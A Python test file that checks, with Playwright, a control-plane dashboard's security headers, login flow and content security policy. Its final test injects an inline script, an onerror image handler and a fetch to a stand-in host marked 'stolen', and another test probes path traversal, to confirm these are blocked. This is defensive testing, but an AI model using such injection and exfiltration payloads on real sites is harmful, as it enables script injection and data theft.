"""The dashboard comes with the control plane, and shows nothing to whom that does not know."""

import httpx
import pytest
from playwright.sync_api import BrowserContext, Page, expect

from tests.dashboard.conftest import log_in

pytestmark = [pytest.mark.xdist_group("dashboard")]


def test_it_is_served_with_headers_that_keep_others_out(address: str) -> None:
    assert httpx.get(address).headers["location"] == "/ui/"
    index = httpx.get(f"{address}/ui/jobs/some-job")
    assert index.status_code == 200
    policy = index.headers["content-security-policy"].split("; ")
    assert {"default-src 'none'", "script-src 'self'", "frame-ancestors 'none'"} < set(policy)
    assert [part for part in policy if "unsafe" in part] == ["style-src 'self' 'unsafe-inline'"]
    assert index.headers["cache-control"] == "no-cache"
    assert httpx.get(f"{address}/ui/assets/of-another-build.js").status_code == 404
    assert 'id="root"' in httpx.get(f"{address}/ui/..%2f..%2fapi/dashboard.py").text, "nothing outside of its folder"


def test_a_wrong_token_is_refused_in_words(window: BrowserContext) -> None:
    page = window.new_page()
    page.goto("/ui/")
    page.get_by_label("Token", exact=True).fill("gw_wrong")
    page.get_by_role("button", name="Log in").click()
    expect(page.get_by_role("alert")).to_contain_text("token")


def test_who_logs_in_comes_to_the_page_that_was_asked_for(window: BrowserContext) -> None:
    page = window.new_page()
    log_in(page, path="/ui/fleet")
    expect(page.get_by_role("heading", name="Fleet")).to_be_visible()


def test_nothing_is_fetched_from_elsewhere_and_nothing_fails(window: BrowserContext, address: str) -> None:
    page = window.new_page()
    asked: list[str] = []
    said: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("pageerror", lambda error: said.append(str(error)))
    log_in(page)
    _settled(page)
    assert [url for url in asked if not url.startswith((address, "data:"))] == []
    assert said == []


def _settled(page: Page) -> None:
    expect(page.get_by_role("heading", level=1)).to_be_visible()


def test_a_script_that_got_into_a_page_neither_runs_nor_tells_anybody(window: BrowserContext) -> None:
    page = window.new_page()
    log_in(page)
    got_in = """async () => {
        const broken = [];
        addEventListener("securitypolicyviolation", event => broken.push(event.effectiveDirective));
        const script = document.createElement("script");
        script.textContent = "window.owned = true";
        document.body.append(script);
        const image = document.createElement("img");
        image.setAttribute("onerror", "window.owned = true");
        image.src = "data:,";
        document.body.append(image);
        await fetch("https://elsewhere.example/?stolen").catch(() => 0);
        await new Promise(resolve => { new Image().onerror = resolve; setTimeout(resolve, 500); });
        const scripts = broken.filter(one => one.startsWith("script-src")).length;
        return [window.owned === undefined, scripts, broken.includes("connect-src")];
    }"""
    assert page.evaluate(got_in) == [True, 2, True]
